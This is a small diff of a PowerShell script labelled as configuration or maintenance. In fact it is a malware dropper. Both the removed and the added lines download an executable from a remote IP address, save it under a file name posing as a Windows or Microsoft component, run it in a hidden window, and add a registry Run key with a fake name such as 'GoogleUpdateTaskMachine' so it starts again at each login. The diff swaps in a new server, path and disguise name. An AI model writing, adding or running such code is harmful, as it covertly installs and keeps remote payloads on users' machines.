@@ -1,4 +1,4 @@
-# config 0617 v2
-Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination $env:TEMP\wuauclt.exe
-Start-Process -WindowStyle Hidden $env:TEMP\wuauclt.exe
-New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'AzureAgentHealth' -Value '$env:TEMP\wuauclt.exe' -PropertyType String -Force
+# maintenance 2618 v2
+Start-BitsTransfer -Source http://203.0.113.17/svc.exe -Destination C:\ProgramData\Microsoft\upd.exe
+Start-Process -WindowStyle Hidden C:\ProgramData\Microsoft\upd.exe
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value 'C:\ProgramData\Microsoft\upd.exe' -PropertyType String -Force
